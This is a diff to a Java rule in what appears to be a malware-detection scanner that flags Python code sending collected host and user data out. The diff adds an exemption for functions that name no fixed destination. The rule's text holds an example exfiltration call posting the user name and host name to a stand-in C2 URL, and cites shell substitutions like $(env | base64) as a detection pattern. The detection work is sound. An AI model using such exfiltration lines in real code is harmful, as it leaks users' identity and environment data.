@@ -2,6 +2,7 @@ package dev.kingsnake.rules.network;
 
 import dev.kingsnake.Confidence;
 import dev.kingsnake.Severity;
+import dev.kingsnake.rules.shared.FixedEndpoints;
 import dev.kingsnake.spi.FindingSink;
 import dev.kingsnake.spi.Location;
 import dev.kingsnake.spi.PythonFile;
@@ -32,7 +33,9 @@ public final class CollectedDataSendRule implements PythonFileRule {
             Severity.HIGH, Confidence.HIGH, Set.of(Tags.EXFILTRATION, Tags.NETWORK),
             "requests.post('https://c2.example.invalid', json={'user': getpass.getuser(), 'host': platform.node()})",
             "Telemetry and crash reporters send a host name with their reports; they usually build the report "
-                    + "elsewhere than where they send it. Plain GETs to a constant URL are never reported. Shell "
+                    + "elsewhere than where they send it; a function that names no destination (no URL, host, IP or mail "
+                    + "address in it, in the functions leading to it, or in its network calls' constant arguments) "
+                    + "sends where its configuration points, as notifiers do, and is not reported. Plain GETs to a constant URL are never reported. Shell "
                     + "commands are reported when a network tool's own command line holds a host-data substitution "
                     + "such as $(whoami) or $(env | base64).");
 
@@ -85,6 +88,10 @@ public final class CollectedDataSendRule implements PythonFileRule {
                 continue;
             }
             scopesReported.add(c.scope());
+            if (!FixedEndpoints.named(facts, c.scope())) {
+                // getuser()@getfqdn() as a notifier's sender address, sent to the server its configuration names
+                continue;
+            }
             sink.report(Location.of(file, c.call()), "this function collects host/user data and " + how + " it",
                     file.line(c.call().line()), Severity.HIGH,
                     c.is(Capability.SEND) ? Confidence.HIGH : Confidence.MEDIUM);
